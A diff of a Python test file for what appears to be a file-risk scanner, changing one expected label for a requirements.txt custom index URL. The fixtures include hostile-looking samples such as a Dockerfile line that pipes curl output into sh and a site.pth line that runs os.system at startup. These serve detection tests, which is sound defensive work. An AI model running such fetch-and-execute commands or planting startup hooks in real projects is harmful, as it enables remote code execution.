@@ -142,7 +142,7 @@ def test_a_cell_that_acts_is_high(cell, name):
         (b"import os; os.system('echo')\n", "site.pth", ("critical", "startup_file")),
         (b"@echo off\r\n", "run.bat", ("high", "script_by_name")),
         (b"Write-Host 1\r\n", "run.ps1", ("high", "script_by_name")),
-        (b"--index-url http://host/simple\n", "requirements.txt", ("high", "recipe")),
+        (b"--index-url http://host/simple\n", "requirements.txt", ("high", "index:host")),
         (b"FROM x\nRUN curl http://host/x | sh\n", "Dockerfile", ("high", "recipe")),
         (b"echo\n", "install.sh", ("high", "script_by_name")),
         (b"no json", "work.ipynb", ("high", "malformed")),
